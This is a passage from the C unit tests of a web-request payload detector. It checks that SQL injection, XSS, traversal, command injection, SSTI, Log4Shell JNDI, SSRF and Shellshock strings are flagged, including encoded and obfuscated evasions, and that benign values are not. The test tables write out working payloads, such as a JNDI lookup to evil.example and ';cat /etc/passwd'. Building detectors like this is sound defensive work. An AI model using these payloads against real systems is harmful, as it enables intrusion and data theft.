		{"gopher", "gopher://10.0.0.1:6379/_INFO", Q, PAYLOAD_SSRF},
		{"public", "https://www.wikipedia.org/wiki/Main_Page", Q, PAYLOAD_NONE},
		{"public ip", "http://93.184.216.34/", Q, PAYLOAD_NONE},
		{"172 public", "http://172.32.0.1/", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_jndi_ssti_table(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"jndi plain", "${jndi:ldap://evil.example/a}", Q, PAYLOAD_JNDI},
		{"jndi lower", "${${lower:j}ndi:ldap://x/a}", Q, PAYLOAD_JNDI},
		{"jndi default", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", Q, PAYLOAD_JNDI},
		{"jndi env default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", Q, PAYLOAD_JNDI},
		{"jndi upper encoded", "%24%7Bjndi:dns://x%7D", Q, PAYLOAD_JNDI},
		{"ssti jinja math", "{{7*7}}", Q, PAYLOAD_SSTI},
		{"ssti el math", "${7*7}", Q, PAYLOAD_SSTI},
		{"ssti erb", "<%= 7*7 %>", Q, PAYLOAD_SSTI},
		{"ssti ruby interp", "#{7*7}", Q, PAYLOAD_SSTI},
		{"ssti mro", "{{''.__class__.__mro__[1]}}", Q, PAYLOAD_SSTI},
		{"ssti config", "{{config.items()}}", Q, PAYLOAD_SSTI},
		{"ssti spring", "${T(java.lang.Runtime).getRuntime()}", Q, PAYLOAD_SSTI},
		{"ssti stmt", "{% for c in [].__class__.__base__.__subclasses__() %}", Q, PAYLOAD_SSTI},
		{"jinja var", "Hello {{ user.name }}", Q, PAYLOAD_NONE},
		{"shell var", "${HOME}/bin", Q, PAYLOAD_NONE},
		{"price template", "Total: ${price}", Q, PAYLOAD_NONE},
		{"plain math", "3*3=9", Q, PAYLOAD_NONE},
		{"ruby interp name", "#{name}", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_evasions(void **st)
{
	(void)st;
	static const struct vcase t[] = {
		{"double percent union", "1%2520union%2520select%25201,2", Q, PAYLOAD_SQLI},
		{"html entity quote", "admin&#39; or &#x27;1&#x27;=&#39;1", Q, PAYLOAD_SQLI},
		{"unicode escape script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", Q, PAYLOAD_XSS},
		{"hex escape tag", "\\x3cimg src=x onerror=alert(1)\\x3e", Q, PAYLOAD_XSS},
		{"percent u", "%u003csvg onload=alert(1)%u003e", Q, PAYLOAD_XSS},
		{"mixed case", "1 UnIoN SeLeCt 1,2", Q, PAYLOAD_SQLI},
		{"comment in keyword", "1 UN/**/ION SEL/**/ECT 1,2", Q, PAYLOAD_SQLI},
		{"comment as space", "1/**/union/**/select/**/1,2", Q, PAYLOAD_SQLI},
		{"plus as space", "1+union+select+1,2", Q, PAYLOAD_SQLI},
		{"entity in tag", "&lt;script&gt;alert(1)&lt;/script&gt;", Q, PAYLOAD_XSS},
		{"named entity colon", "<a href=javascript&colon;alert(1)>x", Q, PAYLOAD_XSS},
		{"triple encoded dots", "%25252e%25252e%25252f%25252e%25252e%25252fetc/passwd", Q, PAYLOAD_TRAVERSAL},
		/* base64 of payloads with no blank or quote: comments as spaces, ${IFS} */
		{"b64 comment union", "MS8qKi91bmlvbi8qKi9zZWxlY3QvKiovcGFzc3dvcmQvKiovZnJvbS8qKi91c2Vycy0t", Q, PAYLOAD_SQLI},
		{"b64 ifs cat", "Y2F0JHtJRlN9L2V0Yy9wYXNzd2Q=", Q, PAYLOAD_CMDI},
		/* junk a lenient decoder (PHP base64_decode, Python) skips */
		{"b64 junk union", "MS8qKi91bmlvbi8qKi9zZWxl!Y3QvKiovcGFzc3dvcmQvKiovZnJv*bS8qKi91c2Vycy0t", Q, PAYLOAD_SQLI},
		{"b64 junk ifs cat", "Y2F0JHtJ!RlN9L2V0Yy9wYXNzd2Q=", Q, PAYLOAD_CMDI},
		/* short base64 counts only when what it carries is a payload */
		{"b64 short semicolon id", "O2lk", Q, PAYLOAD_CMDI},
		{"b64 short backtick id", "YGlkYA==", Q, PAYLOAD_CMDI},
		{"b64 short benign path", "YS9i", Q, PAYLOAD_NONE},
		{"b64 short benign word", "aGVsbG8=", Q, PAYLOAD_NONE},
		{"b64 benign slash text", "L2hvbWUvdXNlci9kb2NzL3JlcG9ydC5wZGY=", Q, PAYLOAD_NONE},
		/* percent-encoded before it was wrapped: 1' or 1=1-- */
		{"b64 of percent-encoded", "MSUyNyUyMG9yJTIwMT0xLS0=", Q, PAYLOAD_SQLI},
		{"b64 of percent-encoded benign", "YSUyMGIlMjBj", Q, PAYLOAD_NONE},
	};
	run_table(t, sizeof(t) / sizeof(t[0]));
}

static void test_match_fields(void **st)
{
	(void)st;
	struct payload_match m[4];
	const char *v = "' union select secret_marker_xyz from t--";
	int n = payload_scan(v, strlen(v), Q, m, 4);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_SQLI);
	assert_true(m[0].score >= 80 && m[0].score <= 100);
	assert_null(strstr(m[0].why, "secret_marker"));
	assert_true(strlen(m[0].why) > 0);
	for (int i = 1; i < n; i++)
		assert_true(m[i - 1].score >= m[i].score);
	assert_int_equal(payload_scan(v, strlen(v), Q, m, 0), 0);
	assert_string_equal(payload_kind_names[PAYLOAD_TRAVERSAL], "path_traversal");
	assert_string_equal(payload_kind_names[PAYLOAD_CMDI], "cmd_injection");
}

static void test_scan_query(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	const char *q = "page=2&q=%27+or+%271%27%3D%271&file=..%2F..%2Fetc%2Fpasswd";
	int n = payload_scan_query(q, strlen(q), Q, m, PAYLOAD__COUNT);
	int sql = 0, tr = 0;
	for (int i = 0; i < n; i++) {
		sql |= m[i].kind == PAYLOAD_SQLI;
		tr |= m[i].kind == PAYLOAD_TRAVERSAL;
	}
	assert_true(sql && tr);
	q = "page=2&sort=name+asc&q=O%27Brien&tags=a,b";
	assert_int_equal(payload_scan_query(q, strlen(q), Q, m, PAYLOAD__COUNT), 0);
	q = "%3Cscript%3E=1"; /* payload in the name */
	assert_int_equal(payload_scan_query(q, strlen(q), Q, m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, PAYLOAD_XSS);
	/* an '&' that begins a character reference is the value's, not a
	 * separator; entities in benign values stay benign */
	q = "q=<img src=&#106;&#97;vascript&colon;alert(1)>&page=2";
	assert_int_equal(payload_scan_query(q, strlen(q), Q, m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, PAYLOAD_XSS);
	q = "size=<BR SIZE=\"&{alert('XSS')}\">";
	assert_int_equal(payload_scan_query(q, strlen(q), Q, m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, PAYLOAD_XSS);
	q = "a=1&amp;b=2&amp;c=%C2%A9&copy;2024&x=Q&A";
	assert_int_equal(payload_scan_query(q, strlen(q), Q, m, PAYLOAD__COUNT), 0);
}

/* A payload list writes blanks as '+' ("1'+union+select+1,2,3--+"); sent
 * already encoded (a form body or JSON value holding the '+' itself, %2B on
 * the wire) it reaches an application that decodes once more with blanks.
 * The value is judged as it came and with '+' as a blank; sums, phone
 * numbers and "C++" stay benign. */
static void test_plus_as_blank(void **st)
{
	static const struct vcase cases[] = {
		{ "union", "1'+union+select+1,2,3--+", PAYLOAD_WHERE_BODY, PAYLOAD_SQLI },
		{ "order by", "1+order+by+5--+", PAYLOAD_WHERE_BODY, PAYLOAD_SQLI },
		{ "waitfor", "1;+waitfor+delay+'0:0:5'--", PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI },
		{ "boolean", "1+and+1=1", PAYLOAD_WHERE_BODY, PAYLOAD_SQLI },
		{ "cmdi", ";+cat+/etc/passwd", PAYLOAD_WHERE_BODY, PAYLOAD_CMDI },
		{ "cmdi pipe", "127.0.0.1+|+id", PAYLOAD_WHERE_BODY, PAYLOAD_CMDI },
		{ "shellshock", "()+{+:;+};+/bin/id", PAYLOAD_WHERE_BODY, PAYLOAD_SHELLSHOCK },
		{ "phone", "+1 (555) 010-2000", PAYLOAD_WHERE_BODY, PAYLOAD_NONE },
		{ "sum", "1+1=2", PAYLOAD_WHERE_BODY, PAYLOAD_NONE },
		{ "language", "C++ or Rust; select a union", PAYLOAD_WHERE_BODY, PAYLOAD_NONE },
		{ "base64", "aGVsbG8+d29ybGQ/+Zm9v+YmFy", PAYLOAD_WHERE_BODY, PAYLOAD_NONE },
		{ "tags", "rock+roll;+blues+&+jazz", PAYLOAD_WHERE_BODY, PAYLOAD_NONE },
	};
	struct payload_match m[PAYLOAD__COUNT];

	(void)st;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct vcase *c = &cases[i];

		if (c->want == PAYLOAD_NONE) {
			int n = payload_scan(c->in, strlen(c->in), c->where, m, PAYLOAD__COUNT);

			if (n)
				fail_msg("%s: '%s' flagged %s: %s", c->name, c->in,
					 payload_kind_names[m[0].kind], m[0].why);
		} else if (!has_kind(c->in, c->where, c->want)) {
			fail_msg("%s: '%s' not flagged %s", c->name, c->in,
				 payload_kind_names[c->want]);
		}
	}
}

/* A query or header value that is itself JSON: its strings are judged as
 * a JSON body's are (an API that parses the parameter reads "1 OR 1=1",
 * not a string starting with '{'). */
static void test_json_in_a_value(void **st)
{
	static const struct vcase cases[] = {
		{ "object", "{\"id\":\"1 OR 1=1\"}", Q, PAYLOAD_SQLI },
		{ "array", "[\"1 OR 1=1\"]", Q, PAYLOAD_SQLI },
		{ "encoded", "%7B%22id%22%3A%221%27%20or%20%271%27%3D%271%22%7D", Q, PAYLOAD_SQLI },
		{ "header", " {\"user\": \"admin' OR 1=1--\"}", PAYLOAD_WHERE_HEADER, PAYLOAD_SQLI },
		{ "cmdi", "{\"c\":\";cat /etc/passwd\"}", Q, PAYLOAD_CMDI },
		{ "benign", "{\"sort\":\"price\",\"order\":\"asc\",\"q\":\"rock & roll; select a union\"}", Q, PAYLOAD_NONE },
		{ "benign filter", "[{\"field\":\"name\",\"op\":\"eq\",\"value\":\"O'Brien\"}]", Q, PAYLOAD_NONE },
	};
	struct payload_match m[PAYLOAD__COUNT];

	(void)st;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct vcase *c = &cases[i];
		int n = payload_scan(c->in, strlen(c->in), c->where, m, PAYLOAD__COUNT);

		if (c->want == PAYLOAD_NONE && n)
			fail_msg("%s: flagged %s: %s", c->name, payload_kind_names[m[0].kind], m[0].why);
		if (c->want != PAYLOAD_NONE && !has_kind(c->in, c->where, c->want))
			fail_msg("%s: '%s' not flagged %s", c->name, c->in, payload_kind_names[c->want]);
	}
}

static void test_scan_json(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	const char *b = "{\"user\":{\"name\":\"Ann\",\"bio\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"},\"n\":[1,2,true,null]}";
	int n = payload_scan_json(b, strlen(b), m, PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_XSS);
	b = "{\"q\":\"x\\\" or \\\"1\\\"=\\\"1\"}";
	n = payload_scan_json(b, strlen(b), m, PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_SQLI);
	b = "{\"name\":\"O'Brien\",\"note\":\"it's \\\"fine\\\"\",\"price\":3.5e2,\"ok\":false}";
	assert_int_equal(payload_scan_json(b, strlen(b), m, PAYLOAD__COUNT), 0);
	b = "{\"a\":\"unterminated ${jndi:ldap://x/y}";
	n = payload_scan_json(b, strlen(b), m, PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_JNDI);
}

static void test_scan_cookie(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	const char *c = "sid=abc123; theme=dark; pref=\"%7B%22a%22%3A1%7D\"";
	assert_int_equal(payload_scan_cookie(c, strlen(c), m, PAYLOAD__COUNT), 0);
	c = "sid=abc; track=${jndi:ldap://evil.example/x}";
	assert_int_equal(payload_scan_cookie(c, strlen(c), m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, PAYLOAD_JNDI);
}

/* Random strings over an alphabet of syntax characters, every prefix of a
 * long mixed payload and a value past PAYLOAD_MAX_VALUE: no crash, bounded,
 * results well-formed (run under valgrind). */
static void test_robust_inputs(void **st)
{
	(void)st;
	static const char alpha[] = "'\"`<>/\\.;|&$(){}[]%#-*=!@:?+ \t\nabcjndixorunselct0123456789\xc0\xaf";
	struct payload_match m[PAYLOAD__COUNT];
	unsigned x = 12345;
	char buf[600];

	for (int r = 0; r < 3000; r++) {
		size_t l = (x = x * 1103515245u + 12345u) % 300;
		for (size_t i = 0; i < l; i++) {
			x = x * 1103515245u + 12345u;
			buf[i] = alpha[(x >> 16) % (sizeof(alpha) - 1)];
		}
		int n = payload_scan(buf, l, 1 + r % 5, m, PAYLOAD__COUNT);
		assert_true(n >= 0 && n < PAYLOAD__COUNT);
		for (int i = 0; i < n; i++) {
			assert_true(m[i].kind > PAYLOAD_NONE && m[i].kind < PAYLOAD__COUNT);
			assert_true(m[i].score >= PAYLOAD_MIN_SCORE && m[i].score <= 100);
		}
		payload_scan_query(buf, l, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		payload_scan_json(buf, l, m, PAYLOAD__COUNT);
		payload_scan_cookie(buf, l, m, PAYLOAD__COUNT);
	}
	const char *mix = "{\"a\":\"${${lower:j}ndi:x}' union select 1,2-- <svg/onload=alert(1)> ../../etc/passwd;id {{7*7}} http://[::1]/\\u0041\"}";
	for (size_t k = 0; k <= strlen(mix); k++) {
		memcpy(buf, mix, k);
		payload_scan(buf, k, PAYLOAD_WHERE_BODY, m, PAYLOAD__COUNT);
		payload_scan_json(buf, k, m, PAYLOAD__COUNT);
	}
	/* payload.h: a value past PAYLOAD_MAX_VALUE is judged in overlapping windows,
	 * so padding does not hide a payload at its end */
	static char big[PAYLOAD_MAX_VALUE * 3];
	int n;

	memset(big, '(', sizeof(big));
	memcpy(big + sizeof(big) - 20, "' or 1=1--", 10);
	n = payload_scan(big, sizeof(big), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_SQLI);
	/* ... nor one straddling two windows */
	memset(big, 'a', sizeof(big));
	memcpy(big + PAYLOAD_MAX_VALUE - 5, "' or 1=1--", 10);
	n = payload_scan(big, sizeof(big), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_SQLI);
	/* the same padding alone is benign */
	memset(big, 'a', sizeof(big));
	assert_int_equal(payload_scan(big, sizeof(big), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), 0);
	memset(big, '$', sizeof(big));
	for (size_t i = 1; i < sizeof(big); i += 2)
		big[i] = '{';
	assert_int_equal(payload_scan(big, sizeof(big), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), 0);
}

/* ---- corpus-driven tests ------------------------------------------------ */

static const char *payload_dir(void)
{
	static const char *const cand[] = {"../shared/data/payloads", "/work/shared/data/payloads"};
	const char *e = getenv("SW_PAYLOADS");
	if (e && *e)
		return e;
	for (size_t i = 0; i < 2; i++) {
		DIR *d = opendir(cand[i]);
		if (d) {
			closedir(d);
			return cand[i];
		}
	}
	return NULL;
}

/* Call fn for every non-empty line of path; returns lines seen or -1. */
static int for_lines(const char *path, void (*fn)(const char *l, size_t n, void *ctx), void *ctx)
{
	FILE *f = fopen(path, "r");
	char *line = NULL;
	size_t cap = 0;
	ssize_t r;
	int cnt = 0;

	if (!f)
		return -1;
	while ((r = getline(&line, &cap, f)) >= 0) {
		while (r > 0 && (line[r - 1] == '\n' || line[r - 1] == '\r'))
			line[--r] = '\0';
		if (r == 0)
			continue;
		fn(line, (size_t)r, ctx);
		cnt++;
	}
	free(line);
	fclose(f);
	return cnt;
}

struct rate {
	enum payload_kind kind;
	int total, hit, any;
	int shown;
};

/* Findings are remembered by value: a value scanned again, alone or
 * between others in a query, must give exactly what its first scan gave,
 * and a remembered value must not lend its findings to another where or to
 * a value that differs in one byte. */
static void assert_same_matches(const struct payload_match *a, int na,
				const struct payload_match *b, int nb)
{
	assert_int_equal(na, nb);
	for (int k = 0; k < na; k++) {
		assert_int_equal(a[k].kind, b[k].kind);
		assert_int_equal(a[k].score, b[k].score);
		assert_string_equal(a[k].why, b[k].why);
	}
}

static void test_repeat_scans_match_first(void **st)
{
	static const struct { const char *v; unsigned where; } vals[] = {
		{ "1' or '1'='1", PAYLOAD_WHERE_QUERY },
		{ "1' or '1'='1", PAYLOAD_WHERE_PATH },
		{ "1' or '1'='2", PAYLOAD_WHERE_QUERY },
		{ "../../etc/passwd", PAYLOAD_WHERE_PATH },
		{ "../../etc/passwd", PAYLOAD_WHERE_HEADER },
		{ "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", PAYLOAD_WHERE_HEADER },
		{ "<script>alert(1)</script>", PAYLOAD_WHERE_BODY },
		{ "/api/users/42", PAYLOAD_WHERE_PATH },
		/* the same value, judged differently by location: a cache
		 * that forgot the location would hand the header the path's */
		{ "../", PAYLOAD_WHERE_PATH },
		{ "../", PAYLOAD_WHERE_HEADER },
		/* the same at PAYLOAD_CACHE_MIN bytes or more (shorter values
		 * are not cached): a private URL is SSRF in a query, not in a
		 * header */
		{ "http://10.0.0.5:8080/internal/admin", PAYLOAD_WHERE_QUERY },
		{ "http://10.0.0.5:8080/internal/admin", PAYLOAD_WHERE_HEADER },
	};
	static const char q[] = "a=1&b=../x&c=../../etc/passwd&d=../x&e=1' or '1'='1";
	enum { NV = sizeof(vals) / sizeof(vals[0]) };
	struct payload_match first[NV][PAYLOAD__COUNT], again[PAYLOAD__COUNT], qm[PAYLOAD__COUNT], qm2[PAYLOAD__COUNT];
	int nfirst[NV], n, nq, nq2;
	(void)st;
	for (size_t i = 0; i < NV; i++)
		nfirst[i] = payload_scan(vals[i].v, strlen(vals[i].v), vals[i].where, first[i], PAYLOAD__COUNT);
	nq = payload_scan_query(q, strlen(q), PAYLOAD_WHERE_QUERY, qm, PAYLOAD__COUNT);
	/* three rounds from the cache, then one with the cache off: every
	 * round equals the first scans */
	for (int rep = 0; rep < 4; rep++) {
		if (rep == 3)
			payload_cache_enable(0);
		for (size_t i = 0; i < NV; i++) {
			n = payload_scan(vals[i].v, strlen(vals[i].v), vals[i].where, again, PAYLOAD__COUNT);
			assert_same_matches(again, n, first[i], nfirst[i]);
		}
		nq2 = payload_scan_query(q, strlen(q), PAYLOAD_WHERE_QUERY, qm2, PAYLOAD__COUNT);
		assert_same_matches(qm2, nq2, qm, nq);
	}
	payload_cache_enable(1);
	assert_true(nfirst[0] > 0 && nfirst[3] > 0 && nfirst[6] > 0);
	assert_int_equal(nfirst[7], 0);
	assert_int_equal(nfirst[5], 0);
	assert_true(nfirst[10] > 0);
	assert_int_equal(nfirst[11], 0);
	assert_true(nfirst[8] > 0);
	assert_int_equal(nfirst[9], 0);
	/* traversal scores more in a path than in a header */
	assert_true(has_kind("../../etc/passwd", PAYLOAD_WHERE_PATH, PAYLOAD_TRAVERSAL));
	assert_int_equal(first[3][0].kind, PAYLOAD_TRAVERSAL);
	assert_int_equal(first[4][0].kind, PAYLOAD_TRAVERSAL);
	assert_int_equal(qm[0].kind, PAYLOAD_TRAVERSAL);
}

static void rate_line(const char *l, size_t n, void *ctx)
{
	struct rate *r = ctx;
	struct payload_match m[PAYLOAD__COUNT];
	int k = payload_scan(l, n, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), hit = 0;
	for (int i = 0; i < k; i++)
		hit |= m[i].kind == r->kind;
	r->total++;
	r->hit += hit;
	r->any += k > 0;
	if (!hit && getenv("SW_SHOW_MISSES") && r->shown++ < atoi(getenv("SW_SHOW_MISSES")))
		printf("    miss: %s\n", l);
}

static void test_payload_rates(void **st)
{
	(void)st;
	static const struct {
		const char *prefix;
		enum payload_kind kind;
		int min_pct;
	} groups[] = {
		{"SQL-Injection_", PAYLOAD_SQLI, 90},
		{"XSS-Injection_", PAYLOAD_XSS, 90},
		{"Directory-Traversal_", PAYLOAD_TRAVERSAL, 90},
		{"Command-Injection_", PAYLOAD_CMDI, 85},
		{"Server-Side-Template-Injection_", PAYLOAD_SSTI, 85},
	};
	const char *dir = payload_dir();
	int seen_groups = 0;

	if (!dir) {
		fprintf(stderr, "payload directory not found (set SW_PAYLOADS)\n");
		fail();
	}
	for (size_t g = 0; g < sizeof(groups) / sizeof(groups[0]); g++) {
		struct rate tot = {groups[g].kind, 0, 0, 0, 0};
		DIR *d = opendir(dir);
		struct dirent *de;
		assert_non_null(d);
		while ((de = readdir(d))) {
			char path[1024];
			struct rate r = {groups[g].kind, 0, 0, 0, 0};
			size_t nl = strlen(de->d_name);
			if (strncmp(de->d_name, groups[g].prefix, strlen(groups[g].prefix)) != 0)
				continue;
			if (!(nl > 4 && (!strcmp(de->d_name + nl - 4, ".txt") ||
					 (nl > 5 && !strcmp(de->d_name + nl - 5, ".fuzz")))))
				continue;
			snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
			assert_true(for_lines(path, rate_line, &r) > 0);
			printf("  %-52s %4d/%-4d %5.1f%% as %s (any kind %5.1f%%)\n", de->d_name,
			       r.hit, r.total, 100.0 * r.hit / r.total, payload_kind_names[r.kind],
			       100.0 * r.any / r.total);
			tot.total += r.total;
			tot.hit += r.hit;
			tot.any += r.any;
		}
		closedir(d);
		if (tot.total == 0)
			continue;
		seen_groups++;
		printf("  == %-49s %4d/%-4d %5.1f%% (need %d%%)\n", groups[g].prefix, tot.hit,
		       tot.total, 100.0 * tot.hit / tot.total, groups[g].min_pct);
		assert_true(tot.hit * 100 >= groups[g].min_pct * tot.total);
	}
	assert_int_equal(seen_groups, 5);
}

/* The tables tools/gen-sqli-xss.py writes from each attack's grammar
 * (contexts x techniques x suffixes x obfuscations): generated, not tuned
 * on, so the rate says how far the detector generalises. */
static void test_generated_tables(void **st)
{
	(void)st;
	static const struct {
		const char *path;
		enum payload_kind kind;
		int min_permille;
	} t[] = {
		{"tests/data/gen-sqli.txt", PAYLOAD_SQLI, 995},
		{"tests/data/gen-xss.txt", PAYLOAD_XSS, 995},
		/* tools/gen-xss2.py (issue 20): 4571/5000 by the detector
		 * before, 4999/5000 after; on a table of another seed, not
		 * tuned on (SEED=77), 4607 before, 5000 after */
		{"tests/data/gen-xss2.txt", PAYLOAD_XSS, 998},
		{"tests/data/gen-trav.txt", PAYLOAD_TRAVERSAL, 995},
		{"tests/data/gen-cmdi.txt", PAYLOAD_CMDI, 975},
		/* tools/gen-unseen.py (issue 20): absolute paths with empty or
		 * "." components, system trees, Windows drive paths, one parent
		 * step in an evasive spelling */
		{"tests/data/gen-trav2.txt", PAYLOAD_TRAVERSAL, 995},
		/* tools/gen-unseen.py: command lines without a separator in
		 * shell-only syntax ($IFS joins, {cmd,arg}, cmd /c, sh -c) */
		{"tests/data/gen-cmdi2.txt", PAYLOAD_CMDI, 995},
		{"tests/data/gen-xxe.txt", PAYLOAD_XXE, 995},
		/* tools/gen-unseen.py: xml-stylesheet loading a stylesheet from
		 * elsewhere, declarations with only '<' in UTF-7 */
		{"tests/data/gen-xxe2.txt", PAYLOAD_XXE, 995},
		{"tests/data/gen-shellshock.txt", PAYLOAD_SHELLSHOCK, 995},
		/* tools/gen-evade.py (issue 20): one parent step encoded at
		 * mixed depths, in %u00XX or escaped-hex syntax, with "\\"
		 * in a path, or above an absolute root: 8/248 before */
		{"tests/data/gen-evade-trav.txt", PAYLOAD_TRAVERSAL, 995},
		/* tools/gen-evade.py: |sh after a command, <(cmd), who``ami,
		 * $'\x69\x64', X=id;$X, C:\Windows\System32\cmd.exe /c,
		 * | powershell IEX (...): 292/810 before, 798/810 after; the 12
		 * missed put an interpreter and code after "x&&", "x|",
		 * "x%0a" - a word, not an address, before the separator, as
		 * prose has ("rock&&python fans"), so they are left alone */
		{"tests/data/gen-evade-cmdi.txt", PAYLOAD_CMDI, 985},
		/* tools/gen-evade.py: a numeric value, a boolean and a
		 * constant predicate without '=' (2>1, BETWEEN, IN, TRUE):
		 * 2604/3402 before */
		{"tests/data/gen-evade-sqli.txt", PAYLOAD_SQLI, 995},
		/* tools/gen-evade.py: markup spelt full-width (%uFF1C,
		 * %EF%BC%9C) or overlong (%C0%BC): 24/60 before */
		{"tests/data/gen-evade-fold.txt", PAYLOAD_XSS, 995},
		/* tools/gen-evade.py: '">', '-->', '</textarea>' first, then
		 * any element ('"><h1>', '</title><form action=...>'):
		 * 56/336 before */
		{"tests/data/gen-evade-break.txt", PAYLOAD_XSS, 995},
		/* tools/gen-evade.py: the definition opening a quoted string
		 * (env x='() { :;}; id', bash -c '() { :;}; id'): 300/480
		 * before */
		{"tests/data/gen-evade-shellshock.txt", PAYLOAD_SHELLSHOCK, 995},
		/* tools/gen-evade.py: sqlmap's percentage tamper, '%' before
		 * every character (%1%2%3%4, %(): 34/120 before */
		{"tests/data/gen-evade-pct.txt", PAYLOAD_SQLI, 995},
		/* tools/gen-heldout-web.py (issue 20, helper A): written from
		 * the tokenizer, decoder and DTD grammars without reading the
		 * earlier tables. XSS 1399/1441 before (optional calls, open(),
		 * comparison breaks, framework attributes, SSI, server-page
		 * echoes), 1438 after (the 3 left end a string with '>', as
		 * rich text ends a tag) */
		{"tests/data/gen-heldout-xss.txt", PAYLOAD_XSS, 995},
		/* 1216/1324 before (device paths, admin shares, octal escapes,
		 * file:// and jar:/netdoc: URLs, Windows targets); the 3 left
		 * put a CR after "..", which no decoder strips */
		{"tests/data/gen-heldout-trav.txt", PAYLOAD_TRAVERSAL, 995},
		/* 368/586 before (UTF-16 and UTF-7 documents, XSLT 2.0 reads,
		 * schema locations and SVG links to local files); the 31 left
		 * point schemas or SVG images at http(s) URLs, as benign
		 * documents do */
		{"tests/data/gen-heldout-xxe.txt", PAYLOAD_XXE, 940},
		/* tools/gen-heldout-inj.py (issue 20): sqlmap's boundaries x
		 * techniques per DBMS x tamper transforms: 2961/3000 before
		 * (stacked CREATE OR REPLACE / COPY (...) TO PROGRAM, an
		 * injected HAVING, A/ ** /N/ ** /D between '#' comments) */
		{"tests/data/gen-heldout-sqli.txt", PAYLOAD_SQLI, 995},
		/* here-strings, $(tr A-Z a-z<<<ID), FOR /F, CALL %x%, cmd,/c,
		 * && "net" user, \r\n runs, &rem, lua -e '...' after a word,
		 * wmic process call create, u\name, ps aux: 1211/1500
		 * before; left: echo pwne? and echo pwned after a plain word,
		 * %xx%-named variables a decoder eats, e\nv (env or e, a
		 * newline, v) */
		{"tests/data/gen-heldout-cmdi.txt", PAYLOAD_CMDI, 985},
		/* a whole value that is a command line (uname -a, cat
		 * /etc/passwd, net user): 0/300 before; left: bare words
		 * (whoami, env), echo/sleep with plain arguments, curl or
		 * wget with only a URL (a developer pastes those too) */
		{"tests/data/gen-heldout-cmdline.txt", PAYLOAD_CMDI, 845},
		{"tests/data/gen-heldout-shell.txt", PAYLOAD_SHELLSHOCK, 995},
		{"tests/data/gen-heldout-jndi.txt", PAYLOAD_JNDI, 995},
		/* commix's results-, time-, file- and eval-based forms and
		 * its Windows FOR /F: 109/400 before; left: a bare
		 * print(chr(..).chr(..)) */
		{"tests/data/gen-heldout-commix.txt", PAYLOAD_CMDI, 995},
		/* sqlmap's base64encode tamper, the whole value base64: 0/300
		 * before */
		{"tests/data/gen-heldout-b64.txt", PAYLOAD_SQLI, 995},
		/* Velocity #set($x=...), Smarty {system('id')}: 191/200 before */
		{"tests/data/gen-heldout-ssti.txt", PAYLOAD_SSTI, 995},
	};
	for (size_t g = 0; g < sizeof(t) / sizeof(t[0]); g++) {
		struct rate r = {t[g].kind, 0, 0, 0, 0};
		assert_true(for_lines(t[g].path, rate_line, &r) > 100);
		printf("  %-52s %4d/%-4d %5.1f%% as %s, any kind %5.1f%% (need %.1f%%)\n", t[g].path,
		       r.hit, r.total, 100.0 * r.hit / r.total, payload_kind_names[r.kind],
		       100.0 * r.any / r.total, t[g].min_permille / 10.0);
		assert_true(r.hit * 1000 >= t[g].min_permille * r.total);
	}
}

/* A parameter given more than once: ASP.NET joins the values with ','.
 * tools/gen-evade.py's whole query strings split SQL injection across the
 * repeats at comments (id=1 UNION/ *&id=* /SELECT 1,2,3): 90/216 flagged
 * before the values were judged joined, 216/216 after. Repeats in benign
 * queries (tags, ids, filters, words) stay quiet. */
struct qrate {
	int total, hit;
};

static void hpp_line(const char *l, size_t n, void *ctx)
{
	struct qrate *r = ctx;
	struct payload_match m[PAYLOAD__COUNT];
	int k = payload_scan_query(l, n, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), hit = 0;

	for (int i = 0; i < k; i++)
		hit |= m[i].kind == PAYLOAD_SQLI;
	r->total++;
	r->hit += hit;
}

/* every pair of neighbouring benign.txt values given as one repeated
 * parameter: joined blindly, unrelated values made contexts (a ',' between
 * "2 < 5 and 4 > 3" and an address) that flagged 5 of 2000 benchmark
 * requests; only a comment left open joins them now */
struct pairs {
	char prev[2048];
	int total, bad;
};

static size_t form_enc(const char *v, size_t n, char *o)
{
	static const char hx[] = "0123456789ABCDEF";
	size_t w = 0;

	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)v[i];
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')) {
			o[w++] = (char)c;
		} else {
			o[w++] = '%';
			o[w++] = hx[c >> 4];
			o[w++] = hx[c & 15];
		}
	}
	return w;
}

